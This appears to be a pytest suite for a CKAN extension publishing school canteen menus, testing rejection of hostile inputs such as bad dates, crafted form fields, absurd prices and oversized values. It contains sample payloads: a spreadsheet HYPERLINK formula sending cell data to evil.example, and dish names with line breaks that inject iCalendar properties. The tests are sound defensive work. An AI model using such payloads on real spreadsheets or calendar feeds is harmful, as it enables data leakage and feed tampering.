"""Hostile requests and files through CKAN: no remote fetch from a web request,
years out of range, crafted entry forms, absurd prices, the visitor's language,
formulas and line breaks in dish names, one parse for many visitors."""
import csv
import io
import re

import pytest
import ckan.plugins.toolkit as tk
from ckan.tests import helpers

from ckanext.opendatalocale import remote_copy
from ckanext.opendatalocale.menus import reader, sample, store

from .conftest import MENUS, headers
from .helpers import at_once, menu_file, row

ROUTE = "/cantine/cantines-saint-chamond"
SERVICE = "cantines-saint-chamond"
JULES_FERRY = sample.DEMO_RESTAURANTS[0].name
NOT_FETCHED = "pas encore été lu par la tâche de validation"

pytestmark = [
    # Test instances share Redis: a site id of our own keeps other runs' workers off our jobs.
    pytest.mark.ckan_config("ckan.site_id", tk.config.get("ckan.site_id") + "_menus_hostile"),
    # The local test server is on 127.0.0.1, which the fetcher refuses by default.
    pytest.mark.ckan_config("ckanext.opendatalocale.fetch.allowed_networks", "127.0.0.0/8"),
    pytest.mark.usefixtures("clean_queues"),
]


def week_file(*names, day="2025-09-15"):
    return menu_file(*[row(menuRestaurantNom=JULES_FERRY, menuDate=day, menuPlatNom=name,
                           menuPlatAllergene='["lait"]') for name in names])


def upload(create_with_upload, canteen, data, name="menus.csv"):
    return create_with_upload(data, name, package_id=canteen["dataset"]["id"], schema=MENUS)


def text(response):
    return response.body.replace("&#39;", "'").replace("&#34;", '"').replace("&quot;", '"')


class TestLinkedMenus:
    def test_pages_read_the_jobs_copy_and_never_fetch_the_link(self, app, canteen, menu_server,
                                                               run_jobs):
        url = menu_server.serve("/menus.csv", week_file("hachis parmentier", "yaourt nature"))
        resource = helpers.call_action("resource_create", package_id=canteen["dataset"]["id"],
                                       url=url, name="Menus en ligne", format="CSV", schema=MENUS)
        asked = {"id": SERVICE, "week": "2025-W38"}
        page = app.get(f"{ROUTE}/menus?semaine=2025-W38")
        assert page.status_code == 200 and NOT_FETCHED in text(page)
        assert "hachis parmentier" not in page.body
        app.get(f"{ROUTE}/menus/imprimer?semaine=2025-W38")
        app.get(f"{ROUTE}/indicateurs")
        app.get(f"{ROUTE}/menus/ecole-elementaire-jules-ferry.ics", status=404)
        app.get(f"{ROUTE}/resource/{resource['id']}")
        shown = app.get("/api/action/odl_menu_week_show", query_string=asked).json["result"]
        assert any(NOT_FETCHED in message for group in shown["problems"]
                   for message in group["messages"])
        helpers.call_action("odl_menu_search", id=SERVICE)
        assert menu_server.requests == []

        run_jobs()  # the validation job fetches the link once and keeps the copy
        assert menu_server.requests == ["/menus.csv"]
        assert remote_copy.copy_info(helpers.call_action("resource_show", id=resource["id"]))
        page = app.get(f"{ROUTE}/menus?semaine=2025-W38")
        assert "hachis parmentier" in page.body and NOT_FETCHED not in text(page)
        assert "le lien a changé depuis" not in text(page)
        feed = app.get(f"{ROUTE}/menus/ecole-elementaire-jules-ferry.ics")
        assert "hachis parmentier" in feed.body
        view = app.get(f"{ROUTE}/resource/{resource['id']}")
        assert "hachis parmentier" in view.body
        assert "odl-week-nav" in view.body  # the week view first, the table preview after
        assert menu_server.requests == ["/menus.csv"]

        # The link changes: pages keep showing the copy, say it is older than the
        # link, and still fetch nothing; the next job reads the new file.
        new_url = menu_server.serve("/menus-2.csv", week_file("gratin de courgettes"))
        helpers.call_action("resource_patch", id=resource["id"], url=new_url)
        page = text(app.get(f"{ROUTE}/menus?semaine=2025-W38"))
        assert "hachis parmentier" in page and "le lien a changé depuis" in page
        assert "Menus en ligne" in page
        view = text(app.get(f"{ROUTE}/resource/{resource['id']}"))
        assert "le lien a changé depuis" in view
        assert menu_server.requests == ["/menus.csv"]
        run_jobs()
        assert menu_server.requests == ["/menus.csv", "/menus-2.csv"]
        page = text(app.get(f"{ROUTE}/menus?semaine=2025-W38"))
        assert "gratin de courgettes" in page and "hachis parmentier" not in page
        assert "le lien a changé depuis" not in page

    def test_saving_a_week_into_a_link_never_fetches_it(self, canteen, menu_server):
        url = menu_server.serve("/menus.csv", week_file("hachis parmentier"))
        resource = helpers.call_action("resource_create", package_id=canteen["dataset"]["id"],
                                       url=url, name="Menus en ligne", format="CSV", schema=MENUS)
        with pytest.raises(tk.ValidationError) as error:
            helpers.call_action("odl_menu_week_save", id=SERVICE, resource_id=resource["id"],
                                restaurant=JULES_FERRY, week="2025-W38",
                                dishes=[{"date": "2025-09-15", "dish_type": "dessert",
                                         "name": "kiwi"}])
        assert "pas encore été lu" in str(error.value.error_dict["resource_id"])
        assert menu_server.requests == []


def test_forty_simultaneous_visitors_parse_the_files_once(canteen, create_with_upload,
                                                          year_csv, monkeypatch):
    upload(create_with_upload, canteen, year_csv)
    dataset = helpers.call_action("package_show", id=SERVICE)
    parses = []
    real_read_menus = reader.read_menus

    def counted(*args, **kwargs):
        parses.append(1)
        return real_read_menus(*args, **kwargs)

    monkeypatch.setattr(reader, "read_menus", counted)
    store.clear()
    loaded, failures = at_once(40, lambda: store.load(dataset))
    assert failures == []
    assert len(loaded) == 40 and len({id(service) for service in loaded}) == 1
    assert len(parses) == 1
    assert len(loaded[0].menus.dishes) > 100


BAD_WEEKS = {"9999-W52": "hors des années 1900 à 2200", "0001-W01": "hors des années 1900 à 2200",
             "2024-W99": "n'est pas une semaine", "n'importe quoi": "n'est pas une semaine"}


@pytest.mark.parametrize("week", sorted(BAD_WEEKS))
class TestWeeksOutOfRange:
    def test_week_pages_answer_400_in_french(self, app, canteen, create_with_upload, week):
        upload(create_with_upload, canteen, week_file("omelette"))
        for path in ("menus", "menus/imprimer"):
            page = app.get(f"{ROUTE}/{path}", query_string={"semaine": week}, status=400)
            assert BAD_WEEKS[week] in text(page)
        page = app.get(f"{ROUTE}/menus/saisie", query_string={"semaine": week},
                       headers=headers(canteen["editor"]), status=400)
        assert BAD_WEEKS[week] in text(page)

    def test_week_actions_refuse_it_in_french(self, app, canteen, create_with_upload, week):
        upload(create_with_upload, canteen, week_file("omelette"))
        response = app.get("/api/action/odl_menu_week_show", status=409,
                           query_string={"id": SERVICE, "week": week})
        assert BAD_WEEKS[week] in str(response.json["error"]["week"])
        with pytest.raises(tk.ValidationError) as error:
            helpers.call_action("odl_menu_week_save", id=SERVICE, restaurant=JULES_FERRY,
                                week=week, dishes=[])
        assert BAD_WEEKS[week] in str(error.value.error_dict["week"])

    def test_entry_form_posting_it_is_told_in_french(self, app, canteen, week):
        page = app.post(f"{ROUTE}/menus/saisie", headers=headers(canteen["editor"]),
                        data={"restaurant": JULES_FERRY, "week": week, "meal": "déjeuner"})
        assert page.status_code == 200
        assert "n'a pas été enregistrée" in text(page) and BAD_WEEKS[week] in text(page)
        assert helpers.call_action("package_show", id=SERVICE)["resources"] == []


@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01", "2025-02-30", "demain"])
def test_search_and_dish_dates_out_of_range_are_refused_in_french(canteen, day):
    expected = "hors des années" if day[0] in "09" and day != "2025-02-30" else "n'est pas une date"
    for field in ("date_from", "date_to"):
        with pytest.raises(tk.ValidationError) as error:
            helpers.call_action("odl_menu_search", id=SERVICE, **{field: day})
        assert expected in str(error.value.error_dict[field])
    with pytest.raises(tk.ValidationError) as error:
        helpers.call_action("odl_menu_week_save", id=SERVICE, restaurant=JULES_FERRY,
                            week="2025-W38",
                            dishes=[{"date": day, "dish_type": "dessert", "name": "kiwi"}])
    assert expected in str(error.value.error_dict["dishes"])


def test_file_dates_at_the_end_of_time_do_not_break_the_feed(app, canteen, create_with_upload):
    upload(create_with_upload, canteen, menu_file(
        row(menuRestaurantNom=JULES_FERRY, menuDate="9999-12-31", menuPlatNom="kiwi"),
        row(menuRestaurantNom=JULES_FERRY, menuDate="0001-01-01", menuPlatNom="poire"),
        row(menuRestaurantNom=JULES_FERRY, menuPlatNom="pomme")))
    feed = app.get(f"{ROUTE}/menus/ecole-elementaire-jules-ferry.ics")
    assert feed.body.count("BEGIN:VEVENT") == 1 and "pomme" in feed.body
    page = text(app.get(f"{ROUTE}/menus?semaine=2025-W38"))
    assert "Dates hors des années possibles" in page
    assert "« 9999-12-31 » est hors des années 1900 à 2200" in page
    assert app.get(f"{ROUTE}/indicateurs").status_code == 200


class TestCraftedEntryForm:
    def post(self, app, canteen, data, status=400):
        return app.post(f"{ROUTE}/menus/saisie", headers=headers(canteen["editor"]), data=data,
                        status=status)

    @pytest.mark.parametrize("field, expected", [
        ({"dishes__x__name": "omelette"}, "Champ de formulaire inattendu : « dishes__x__name »"),
        ({"dishes": "foo"}, "Champ de formulaire inattendu : « dishes »"),
        ({"dishes__0": "foo"}, "Champ de formulaire inattendu"),
        ({"dishes__0__name__x": "foo"}, "Champ de formulaire inattendu"),
        ({"dishes__0__password": "foo"}, "Champ de formulaire inattendu"),
        ({"dishes__0__name": ["omelette", "pomme"]}, "est envoyé plusieurs fois"),
        ({"restaurant": [JULES_FERRY, "autre"]}, "« restaurant » est envoyé plusieurs fois"),
    ])
    def test_fields_the_form_never_sends_get_a_french_400(self, app, canteen, field, expected):
        data = {"restaurant": JULES_FERRY, "week": "2025-W38", "meal": "déjeuner",
                "dishes__1__date": "2025-09-15", "dishes__1__dish_type": "dessert",
                "dishes__1__name": "pomme"}
        data.update(field)
        page = self.post(app, canteen, data)
        assert expected in text(page)
        assert helpers.call_action("package_show", id=SERVICE)["resources"] == []

    def test_too_many_dishes_are_refused(self, app, canteen):
        data = {"restaurant": JULES_FERRY, "week": "2025-W38"}
        for number in range(300):
            data[f"dishes__{number}__name"] = "pomme"
        assert "Trop de plats" in text(self.post(app, canteen, data))

    @pytest.mark.parametrize("price, expected", [
        # the SCDL validator's sentences (issue 17): the repair when it is certain
        ("nan", "« nan » n'est pas un nombre ("), ("NaN", "« NaN » n'est pas un nombre ("),
        ("inf", "« inf » n'est pas un nombre ("), ("-inf", "« -inf » n'est pas un nombre ("),
        ("1e400", "« 1e400 » n'est pas un nombre ("), ("-1", "négatif"),
        ("1000,01", "plus de 1000 €"), ("12 euros", "sans espace ni unité : écrivez 12"),
    ])
    def test_absurd_prices_are_refused_and_nothing_is_published(self, app, canteen, price, expected):
        with pytest.raises(tk.ValidationError) as error:
            helpers.call_action("odl_menu_week_save", id=SERVICE, restaurant=JULES_FERRY,
                                week="2025-W38", dishes=[{"date": "2025-09-15",
                                                          "dish_type": "dessert", "name": "kiwi",
                                                          "price": price}])
        assert expected in str(error.value.error_dict["dishes"])
        page = self.post(app, canteen, {
            "restaurant": JULES_FERRY, "week": "2025-W38", "dishes__0__date": "2025-09-15",
            "dishes__0__dish_type": "dessert", "dishes__0__name": "kiwi",
            "dishes__0__price": price}, status=200)
        assert "Plat 1, Prix" in text(page) and expected in text(page)
        assert helpers.call_action("package_show", id=SERVICE)["resources"] == []

    def test_a_dish_name_on_two_lines_is_refused(self, canteen):
        with pytest.raises(tk.ValidationError) as error:
            helpers.call_action("odl_menu_week_save", id=SERVICE, restaurant=JULES_FERRY,
                                week="2025-W38", dishes=[{"date": "2025-09-15",
                                                          "dish_type": "dessert",
                                                          "name": "kiwi\r\nATTENDEE:x"}])
        assert "tient sur une ligne" in str(error.value.error_dict["dishes"])

    def test_dishes_that_are_not_dishes_are_refused_by_the_action(self, app, canteen):
        for dishes in ("foo", ["foo"], [1, 2], {"name": "kiwi"}):
            response = app.post("/api/action/odl_menu_week_save", headers=headers(canteen["editor"]),
                                json={"id": SERVICE, "restaurant": JULES_FERRY, "week": "2025-W38",
                                      "dishes": dishes}, expect_errors=True)
            assert response.status_code in (400, 409), (dishes, response.body[:300])
        assert helpers.call_action("package_show", id=SERVICE)["resources"] == []


def published_rows(resource):
    with remote_copy.open_copy(resource) as stored:
        return list(csv.DictReader(io.StringIO(stored.read().decode("utf-8"))))


def test_a_formula_typed_as_a_dish_is_published_as_text(app, canteen):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Menu")'
    app.post(f"{ROUTE}/menus/saisie", headers=headers(canteen["editor"]), data={
        "restaurant": JULES_FERRY, "week": "2025-W38", "dishes__0__date": "2025-09-15",
        "dishes__0__dish_type": "plat principal", "dishes__0__name": formula,
        "dishes__0__label": "@SUM(1+1)", "dishes__0__price": "1,20"})
    resource = helpers.call_action("package_show", id=SERVICE)["resources"][0]
    published = published_rows(resource)
    assert published[0]["menuPlatNom"] == "'" + formula
    assert published[0]["menuPlatLabel"] == "'@SUM(1+1)"
    assert published[0]["menuPlatPrix"] == "1.2"


def test_a_line_break_in_a_published_dish_name_adds_no_calendar_property(app, canteen,
                                                                         create_with_upload):
    hostile = "poulet\rATTENDEE;CN=x:mailto:x@example.org\nX-EVIL:1\r\nEND:VEVENT"
    upload(create_with_upload, canteen, menu_file(
        row(menuRestaurantNom=JULES_FERRY, menuPlatNom=hostile)))
    body = app.get(f"{ROUTE}/menus/ecole-elementaire-jules-ferry.ics").body
    lines = body[:-2].replace("\r\n ", "").split("\r\n")
    assert "\r" not in body.replace("\r\n", "") and "\n" not in body.replace("\r\n", "")
    assert not any(line.startswith(("ATTENDEE", "X-EVIL")) for line in lines)
    assert [line for line in lines if line.startswith("END:")] == ["END:VEVENT", "END:VCALENDAR"]


def test_a_megabyte_cell_is_quoted_a_few_hundred_characters_long(app, canteen, create_with_upload):
    upload(create_with_upload, canteen, menu_file(
        row(menuRestaurantNom=JULES_FERRY, menuDate="x" * 200_000),
        row(menuRestaurantNom=JULES_FERRY, menuPlatAllergene='["' + "y" * 200_000 + '"]')))
    page = app.get(f"{ROUTE}/menus?semaine=2025-W38")
    assert page.status_code == 200
    assert "x" * 200 in page.body and "x" * 300 not in page.body
    assert "y" * 200 in page.body and "y" * 300 not in page.body
    assert len(page.body) < 150_000


class TestLanguages:
    def test_each_visitor_reads_the_indicators_in_their_language(self, app, canteen,
                                                                 create_with_upload):
        upload(create_with_upload, canteen, week_file("gratin au lait"))
        english = app.get(f"/en{ROUTE}/indicateurs").body
        assert "Milk" in english
        french = app.get(f"{ROUTE}/indicateurs").body
        assert "Lait" in french and "Milk" not in french
        assert "Milk" in app.get(f"/en{ROUTE}/indicateurs").body
        figures = app.get("/api/action/odl_menu_indicators", query_string={"id": SERVICE},
                          headers={"Accept-Language": "fr"}).json["result"]
        assert figures["allergens"]["allergens"][6]["label"] == "Lait"

    def test_each_visitor_reads_the_file_problems_in_their_language(self, app, canteen,
                                                                    create_with_upload, run_jobs):
        upload(create_with_upload, canteen, menu_file(
            row(menuRestaurantNom=JULES_FERRY, menuDate="15/09/2025")))
        run_jobs()  # a failing validation: its summary is shown with the menus
        english = app.get(f"/en{ROUTE}/menus?semaine=2025-W38").body
        assert re.search(r"\d+ errors? in \d+ rows checked", english)
        assert not re.search(r"erreurs? sur", english)
        french = app.get(f"{ROUTE}/menus?semaine=2025-W38").body
        assert re.search(r"\d+ erreurs? sur \d+ lignes vérifiées", french)
        assert not re.search(r"errors? in", french)


def test_values_typed_by_a_visitor_are_quoted_cut(canteen, create_with_upload):
    upload(create_with_upload, canteen, week_file("omelette"))
    huge = "z" * 100_000
    with pytest.raises(tk.ObjectNotFound) as missing:
        helpers.call_action("odl_menu_week_show", id=SERVICE, restaurant=huge)
    with pytest.raises(tk.ValidationError) as refused:
        helpers.call_action("odl_menu_search", id=SERVICE, exclude=huge)
    with pytest.raises(tk.ValidationError) as unknown:
        helpers.call_action("odl_menu_week_save", id=SERVICE, restaurant=huge, week="2025-W38",
                            dishes=[])
    for error in (str(missing.value), str(refused.value.error_dict), str(unknown.value.error_dict)):
        assert "z" * 80 in error and "z" * 300 not in error
